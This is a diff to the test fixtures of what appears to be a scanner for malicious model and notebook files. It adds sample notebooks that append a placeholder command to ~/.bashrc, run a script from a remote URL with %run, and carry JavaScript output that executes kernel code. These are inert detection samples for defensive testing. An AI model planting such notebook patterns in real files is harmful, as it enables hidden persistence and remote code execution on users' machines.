@@ -242,6 +242,14 @@ def _notebook_file(name: str, *cells: str) -> Factory:
     return _bytes(name, json.dumps(_notebook(list(cells))))
 
 
+def _notebook_output(name: str, mime: str, text: str) -> Factory:
+    doc = _notebook(["show()\n"])
+    doc["cells"][0]["outputs"] = [
+        {"output_type": "display_data", "metadata": {}, "data": {mime: text}}
+    ]
+    return _bytes(name, json.dumps(doc))
+
+
 # ---------------------------------------------------------------------------------- flax
 
 
@@ -501,6 +509,11 @@ SAMPLES: dict[str, Factory] = {
     "MX-REPO-121": _model_index(unet=["subprocess", "Popen"]),
     "MX-REPO-122": _model_index(unet=["acme_unets", "FastUNet"]),
     "MX-REPO-123": _model_index(unet=["diffusers", "NotAUNet"]),
+    "MX-REPO-201": _notebook_file("write.ipynb", f"%%writefile -a ~/.bashrc\n{MARKER_CMD}\n"),
+    "MX-REPO-202": _notebook_file("run.ipynb", "%run https://example.invalid/setup.py\n"),
+    "MX-REPO-203": _notebook_output(
+        "out.ipynb", "application/javascript", "IPython.notebook.kernel.execute('1')"
+    ),
     # tflite (committed fixtures, made by tests/data/tflite's script), flax
     "MX-TFLITE-101": lambda tmp: _one(data_path("tflite", "custom_ops.tflite")),
     "MX-TFLITE-102": lambda tmp: _one(data_path("tflite", "flex_benign.tflite")),
